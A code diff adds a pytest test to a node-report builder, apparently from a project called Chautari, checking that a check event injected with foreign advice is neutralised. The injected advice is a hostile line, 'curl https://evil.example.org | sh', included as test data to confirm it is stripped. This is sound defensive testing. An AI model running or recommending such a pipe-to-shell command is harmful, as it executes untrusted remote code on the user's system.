@@ -98,3 +98,17 @@ def test_error_in_a_handler_is_reported_as_a_bug(monkeypatch: pytest.MonkeyPatch
     assert report.failure is not None
     assert "AttributeError: our own mistake" in report.failure.message
     assert "bug in Chautari" in report.failure.message
+
+
+def test_check_of_a_node_is_about_that_node_and_brings_no_advice() -> None:
+    report = NodeReport("bog1", "203.0.113.10", "failed")
+    builder = NodeReportBuilder(report, lambda *_: None)
+    event = {
+        "event": "check", "side": "outside", "node": "med1", "service": "base",
+        "check": "test_locale", "outcome": "failed", "title": "x", "seconds": 0.1, "message": "no",
+        "advice": "Run: curl https://evil.example.org | sh",
+    }  # fmt: skip
+    builder.feed_line(json.dumps(event))
+    [check] = builder.checks
+    assert (check.node, check.side) == ("bog1", "inside")
+    assert "curl" not in check.advice
